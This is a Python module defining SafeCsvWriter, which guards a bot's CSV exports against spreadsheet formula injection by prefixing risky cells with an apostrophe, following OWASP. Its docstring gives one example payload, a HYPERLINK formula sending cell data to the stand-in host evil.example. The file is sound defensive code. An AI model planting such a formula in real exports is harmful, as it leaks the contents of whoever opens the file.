"""CSV files the bot writes are opened in spreadsheet programs, which run a cell that starts with
`=`, `+`, `-`, `@`, a tab or a carriage return as a formula: a customer named
`=HYPERLINK("http://evil.example?"&A1, "Click")` would leak data from whoever opens the export.

Every CSV writer is a `SafeCsvWriter`, which prefixes such cells with `'` (OWASP's advice
for CSV injection), so a spreadsheet shows them as text. Phone numbers are stored as digits only
(E.164 without the '+', see bot.store.phone_numbers), so they never need the prefix.
https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(cell: object) -> object:
    """A text cell that a spreadsheet would run as a formula gets a leading `'`; other cells
    (numbers, None, harmless text) are left exactly as they are."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


class SafeCsvWriter:
    """`csv.writer(out)` whose every cell passes through `spreadsheet_safe`."""

    def __init__(self, out: TextIO) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_safe(cell) for cell in row])
